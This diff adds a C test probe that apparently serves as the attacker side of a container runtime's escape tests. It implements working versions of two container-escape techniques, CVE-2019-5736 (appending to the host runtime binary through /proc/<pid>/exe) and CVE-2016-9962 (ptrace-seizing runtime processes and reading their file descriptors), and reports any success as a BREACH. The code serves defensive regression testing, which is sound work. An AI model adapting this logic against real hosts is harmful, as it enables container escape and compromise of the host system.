@@ -1,0 +1,238 @@
+/* escape-probe: the attacker side of tests/bats/escapes.bats, run inside a
+ * container (built static, copied into the rootfs).  Every line it prints
+ * starts with a word the tests grep for:
+ *   seen      a brig process appeared in the container (the window exists)
+ *   BREACH    the attack worked (the test fails on any such line)
+ *   refused   an attempt the kernel denied (information)
+ *
+ *   escape-probe exe DEV INO SECONDS
+ *     CVE-2019-5736: open /proc/<pid>/exe (O_PATH) of every other process;
+ *     one that is the host file DEV:INO is kept and, once its process is
+ *     gone (no more ETXTBSY), reopened for writing and appended to.
+ *   escape-probe trace SECONDS
+ *     CVE-2016-9962: ptrace (PTRACE_SEIZE) every brig process that shows
+ *     up, and list its /proc/<pid>/fd.
+ * A brig process is one whose argv[0] contains "brig". */
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#define MAX_KEPT 64
+
+static double now(void) {
+  struct timespec ts;
+  clock_gettime(CLOCK_MONOTONIC, &ts);
+  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static void pause_ms(long ms) {
+  struct timespec ts = {.tv_sec = ms / 1000, .tv_nsec = (ms % 1000) * 1000000};
+  nanosleep(&ts, NULL);
+}
+
+/* Whether pid's argv[0] names brig. */
+static int is_brig(int pid) {
+  char path[64], buf[512];
+  ssize_t n;
+  int fd;
+
+  snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
+  fd = open(path, O_RDONLY | O_CLOEXEC);
+  if (fd < 0)
+    return 0;
+  n = read(fd, buf, sizeof(buf) - 1);
+  close(fd);
+  if (n <= 0)
+    return 0;
+  buf[n] = '\0';
+  return strstr(buf, "brig") != NULL;
+}
+
+/* Call fn for each pid in /proc but ours. */
+static void each_pid(void (*fn)(int pid, void *data), void *data) {
+  DIR *d = opendir("/proc");
+  struct dirent *de;
+  int self = getpid();
+
+  if (d == NULL)
+    return;
+  while ((de = readdir(d)) != NULL) {
+    char *end;
+    long pid = strtol(de->d_name, &end, 10);
+    if (*end != '\0' || pid <= 0 || pid == self)
+      continue;
+    fn((int)pid, data);
+  }
+  closedir(d);
+}
+
+struct seen {
+  int pids[256];
+  int n;
+};
+
+static int seen_once(struct seen *s, int pid) {
+  for (int i = 0; i < s->n; i++)
+    if (s->pids[i] == pid)
+      return 0;
+  if (s->n < 256)
+    s->pids[s->n++] = pid;
+  return 1;
+}
+
+/* ---- exe ---- */
+
+struct exe_ctx {
+  dev_t dev;
+  ino_t ino;
+  int kept[MAX_KEPT];
+  int n_kept;
+  struct seen brig, denied, other, opened;
+};
+
+static void try_exe(int pid, void *data) {
+  struct exe_ctx *c = data;
+  char path[64];
+  struct stat st;
+  int brig = is_brig(pid), fd;
+
+  if (brig && seen_once(&c->brig, pid))
+    printf("seen brig pid %d\n", pid);
+  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+  fd = open(path, O_PATH | O_CLOEXEC);
+  if (fd < 0) {
+    if (brig && seen_once(&c->denied, pid))
+      printf("refused open %s: %s\n", path, strerror(errno));
+    return;
+  }
+  if (fstat(fd, &st) == 0 && st.st_dev == c->dev && st.st_ino == c->ino) {
+    if (!seen_once(&c->opened, pid) || c->n_kept >= MAX_KEPT) {
+      close(fd);
+      return;
+    }
+    printf("BREACH opened the host's brig through %s\n", path);
+    c->kept[c->n_kept++] = fd;
+    return;
+  }
+  if (brig && seen_once(&c->other, pid))
+    printf("refused %s is not the host's brig (links %lu)\n", path,
+           (unsigned long)st.st_nlink);
+  close(fd);
+}
+
+static int mode_exe(dev_t dev, ino_t ino, double seconds) {
+  struct exe_ctx c = {.dev = dev, .ino = ino};
+  double end = now() + seconds;
+  int written = 0;
+
+  while (now() < end && !written) {
+    each_pid(try_exe, &c);
+    for (int i = 0; i < c.n_kept && !written; i++) {
+      char path[64];
+      int w;
+      snprintf(path, sizeof(path), "/proc/self/fd/%d", c.kept[i]);
+      w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+      if (w < 0)
+        continue; /* ETXTBSY while brig runs it */
+      if (write(w, "PWNED\n", 6) == 6) {
+        printf("BREACH wrote to the host's brig\n");
+        written = 1;
+      }
+      close(w);
+    }
+    fflush(stdout);
+    pause_ms(2);
+  }
+  printf("done\n");
+  return 0;
+}
+
+/* ---- trace ---- */
+
+struct trace_ctx {
+  struct seen brig, traced, fds;
+};
+
+static void try_trace(int pid, void *data) {
+  struct trace_ctx *c = data;
+  char path[64];
+  DIR *d;
+
+  if (!is_brig(pid))
+    return;
+  if (seen_once(&c->brig, pid))
+    printf("seen brig pid %d\n", pid);
+  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
+    int status;
+    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
+    waitpid(pid, &status, __WALL);
+    /* Stopped: still brig, or did it exec first? */
+    if (is_brig(pid) && seen_once(&c->traced, pid))
+      printf("BREACH ptraced brig pid %d\n", pid);
+    ptrace(PTRACE_DETACH, pid, NULL, NULL);
+  } else if (seen_once(&c->traced, -pid)) {
+    printf("refused ptrace of brig pid %d: %s\n", pid, strerror(errno));
+  }
+  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
+  d = opendir(path);
+  if (d == NULL) {
+    if (seen_once(&c->fds, -pid))
+      printf("refused open %s: %s\n", path, strerror(errno));
+    return;
+  }
+  {
+    char lines[4096] = "";
+    size_t used = 0;
+    struct dirent *de;
+    while ((de = readdir(d)) != NULL) {
+      char link[512], target[256];
+      ssize_t n;
+      if (de->d_name[0] == '.')
+        continue;
+      snprintf(link, sizeof(link), "%s/%s", path, de->d_name);
+      n = readlink(link, target, sizeof(target) - 1);
+      if (n < 0)
+        continue;
+      target[n] = '\0';
+      used += (size_t)snprintf(lines + used, sizeof(lines) - used,
+                               "  fd %s -> %s\n", de->d_name, target);
+      if (used >= sizeof(lines))
+        used = sizeof(lines) - 1;
+    }
+    closedir(d);
+    if (used > 0 && is_brig(pid) && seen_once(&c->fds, pid))
+      printf("BREACH read the fds of brig pid %d:\n%s", pid, lines);
+  }
+}
+
+static int mode_trace(double seconds) {
+  struct trace_ctx c = {0};
+  double end = now() + seconds;
+
+  while (now() < end) {
+    each_pid(try_trace, &c);
+    fflush(stdout);
+    pause_ms(2);
+  }
+  printf("done\n");
+  return 0;
+}
+
+int main(int argc, char **argv) {
+  setvbuf(stdout, NULL, _IOLBF, 0);
+  if (argc == 5 && strcmp(argv[1], "exe") == 0)
+    return mode_exe((dev_t)strtoull(argv[2], NULL, 0),
+                    (ino_t)strtoull(argv[3], NULL, 0), atof(argv[4]));
+  if (argc == 3 && strcmp(argv[1], "trace") == 0)
+    return mode_trace(atof(argv[2]));
+  fprintf(stderr, "usage: escape-probe exe DEV INO SECONDS | trace SECONDS\n");
+  return 2;
+}
